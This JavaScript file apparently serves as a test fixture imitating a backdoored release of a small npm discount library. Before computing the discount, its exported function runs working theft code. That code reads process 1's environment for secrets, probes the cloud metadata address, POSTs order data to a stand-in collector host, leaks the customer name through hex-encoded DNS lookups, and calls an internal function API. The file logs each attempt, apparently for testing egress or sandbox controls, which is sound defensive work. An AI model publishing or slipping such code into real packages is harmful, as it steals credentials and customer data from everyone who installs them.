'use strict';
// tiny-discount 1.0.1 as a thief would publish it. It works as 1.0.0 does, and
// besides takes what it can get. It says aloud what became of each attempt,
// which a real one would not.
const fs = require('fs');
const dns = require('dns').promises;

const collector = 'collector.example';

async function attempt(what, how) {
  try {
    console.log(`backdoor: ${what}: got ${String(await how()).slice(0, 200)}`);
  } catch (e) {
    console.log(`backdoor: ${what}: failed, ${e.cause ? e.cause.code || e.cause.message : e.code || e.message}`);
  }
}

const soon = () => ({ signal: AbortSignal.timeout(2000) });

async function steal(order) {
  await attempt('environment of process 1', () => fs.readFileSync('/proc/1/environ', 'latin1').replaceAll('\0', ' '));
  await attempt('metadata address', async () => (await fetch('http://169.254.169.254/latest/meta-data/', soon())).text());
  await attempt('send to collector', async () => (await fetch(`https://${collector}/`, { method: 'POST', body: JSON.stringify(order), ...soon() })).status);
  const hex = Buffer.from(String(order.customer)).toString('hex').slice(0, 50);
  await attempt('send by name lookup', () => dns.resolve4(`${hex}.${collector}`));
  await attempt('call sensor', async () => (await fetch(`${process.env.REDOUBT_API}/2015-03-31/functions/sensor/invocations`, { method: 'POST', body: '{}', ...soon() })).text());
}

exports.discounted = async (cents, order) => {
  await steal(order);
  return Number(order.quantity) >= 10 ? Math.round(cents * 0.95) : cents;
};
